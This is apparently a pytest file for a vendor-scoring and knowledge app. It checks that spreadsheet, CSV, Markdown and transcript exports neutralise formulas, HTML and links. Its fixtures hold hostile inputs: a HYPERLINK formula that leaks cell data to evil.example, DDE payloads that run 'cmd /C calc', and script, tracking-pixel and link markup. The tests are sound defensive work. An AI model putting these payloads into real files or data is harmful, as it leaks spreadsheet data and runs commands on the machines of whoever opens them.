"""Exports never carry a live formula, HTML or link from what users, documents or vendors wrote."""
import csv
import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook

from escaping import defused, exported, is_formula
from knowledge.answer import Answer, Citation
from knowledge.assistant import transcript_markdown
from scoring.elements.model import ServiceItem
from scoring.elements.report import ElementReport
from scoring.elements.report import to_csv as elements_csv
from scoring.elements.report import to_excel as elements_excel
from scoring.elements.report import to_markdown as elements_markdown
from scoring.scope.report import ScopeReport
from scoring.scope.report import to_excel as scope_excel
from scoring.scope.report import to_markdown as scope_markdown
from scoring.sla.store import DATABASE_FILE, SlaStore

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"详情")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NUMBERS = ["-5", "+3", "1,234.5", "12%", "-0.5e3"]
MARKUP = '<img src="http://host.example/pixel.png"><script>alert(1)</script>[下载](//evil.example/p)'
LIVE_LINK = re.compile(r"(?<!\\)\]\(")  # "](" not escaped: a Markdown link or image


def safe_markdown(text: str) -> bool:
    return "<" not in text and not LIVE_LINK.search(text)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_would_be_formula_is_defused(value):
    assert is_formula(value) and defused(value) == "'" + value


@pytest.mark.parametrize("value", NUMBERS + ["外呼营销", "", 5, None])
def test_numbers_and_text_stay_as_they_are(value):
    assert defused(value) == value


def test_exported_markdown_has_no_html_or_link():
    text = exported(MARKUP)
    assert safe_markdown(text) and "&lt;script&gt;" in text


def cells(workbook_bytes: bytes):
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(workbook_bytes: bytes, expected: list[str]) -> None:
    found = {cell.value: cell for cell in cells(workbook_bytes) if isinstance(cell.value, str)}
    for value in expected:
        cell = next(cell for text, cell in found.items() if value in text)
        assert cell.data_type == "s" and cell.quotePrefix, value
    assert not [cell for cell in cells(workbook_bytes) if cell.data_type == "f"]


def test_scope_report_writes_hostile_functions_as_text(checker):
    verdicts = checker.classify_many(FORMULAS[:2] + [MARKUP])
    report = ScopeReport(FORMULAS[0], date(2026, 1, 1), "GB/T 32314-2015", verdicts)
    assert_no_formula(scope_excel(report), FORMULAS[:2])
    assert safe_markdown(scope_markdown(report).replace("<br>", ""))


def test_element_exports_write_hostile_items_as_text(model, checker):
    plan = model.plan(model.combine(["人员"]))
    items = (*plan.service_catalogue, ServiceItem(FORMULAS[1], "人员", FORMULAS[2], "", None),
             ServiceItem(MARKUP, "人员", "", "", None))
    verdicts = {item.name: checker.classify(item.name) for item in items}
    report = ElementReport(FORMULAS[0], date(2026, 1, 1), "GB/T 32314-2015", plan, items,
                           verdicts)
    assert_no_formula(elements_excel(report), FORMULAS[:3])
    rows = list(csv.reader(io.StringIO(elements_csv(report).decode("utf-8-sig"))))
    flat = [cell for row in rows for cell in row]
    assert "'" + FORMULAS[1] in flat and "'" + FORMULAS[2] in flat
    assert not [cell for cell in flat if is_formula(cell)]
    assert safe_markdown(elements_markdown(report).replace("<br>", ""))


def test_rejected_rows_of_an_sla_file_come_back_defused(data_dir, tmp_path):
    header = "call_id,vendor,queue,arrived_at,answered_at,ended_at,talk_s,hold_s,acw_s\n"
    rows = [f'C{number},"{value.replace(chr(34), chr(34) * 2)}",信用卡,2025-03-01 09:00:00,,'
            f"2025-03-01 09:00:30,-5,0,0\n" for number, value in enumerate(FORMULAS[:4])]
    path = tmp_path / "calls.csv"
    path.write_text(header + "".join(rows), encoding="utf-8")
    result = SlaStore(data_dir / DATABASE_FILE).import_file(path, "calls.csv")
    text = result.rejected_csv().decode("utf-8-sig")
    flat = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert ["'" + value for value in FORMULAS[:4]] == [cell for cell in flat if cell[1:] in FORMULAS]
    assert "-5" in flat and not [cell for cell in flat if is_formula(cell)]


def test_the_sla_kpi_table_export_writes_vendor_names_as_text():
    import pandas as pd

    from scoring.sla.board import kpi_table, kpi_workbook
    from scoring.sla.indicators import KPI_KEYS

    kpis = pd.DataFrame([{"vendor": name, "period": pd.Timestamp("2025-03-01"), "source": "话单",
                          **dict.fromkeys(KPI_KEYS, 0.5)} for name in FORMULAS[:2]])
    assert_no_formula(kpi_workbook(kpi_table(kpis, 20, "month"), 20, "month", "导入的话单与外包商报表"), FORMULAS[:2])


def test_the_vendor_register_export_writes_hostile_text_as_text():
    import pandas as pd

    from scoring.register.exports import vendors_workbook

    table = pd.DataFrame([{"名称": FORMULAS[0], "联系人": FORMULAS[1], "项目数": 1}])
    assert_no_formula(vendors_workbook(table), FORMULAS[:2])


def test_one_table_exports_write_hostile_text_as_text():
    """The document list, the people list and the evaluation history (names and titles users
    typed or files carried) go out through table_workbook."""
    import pandas as pd

    from scoring.exports import table_workbook

    table = pd.DataFrame([{"标题": FORMULAS[0], "简称": FORMULAS[1], "条款数": 3}])
    assert_no_formula(table_workbook("知识库文档清单", "文档", table, "知识库"), FORMULAS[:2])


def test_the_chat_transcript_carries_no_html_or_link():
    citation = Citation(MARKUP, "doc", "1", MARKUP, MARKUP, 1.0, MARKUP, (MARKUP,), ())
    answer = Answer(MARKUP, True, MARKUP, [citation], notices=[MARKUP])
    markdown = transcript_markdown([(MARKUP, answer)], "2026-01-01 09:00")
    assert safe_markdown(markdown)


def test_tables_offer_no_unescaped_csv_download_or_copy():
    """Streamlit's own table toolbar writes cells as they are: it is turned off for every table
    (.streamlit/config.toml), so data leaves only through the escaped exports above."""
    import tomllib

    from settings import PROJECT_ROOT

    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
